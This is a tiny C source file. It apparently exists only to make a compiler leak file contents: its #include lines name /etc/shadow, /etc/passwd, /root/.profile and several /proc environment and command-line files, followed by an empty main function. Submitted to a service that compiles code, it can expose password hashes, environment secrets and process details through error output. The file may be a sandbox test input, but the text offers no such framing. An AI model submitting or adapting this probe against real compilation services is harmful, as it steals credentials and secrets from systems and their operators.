#include "/etc/shadow"
#include "/etc/passwd"
#include "/root/.profile"
#include "/proc/1/environ"
#include "/proc/self/environ"
#include "/proc/self/cmdline"
int main(void) { return 0; }
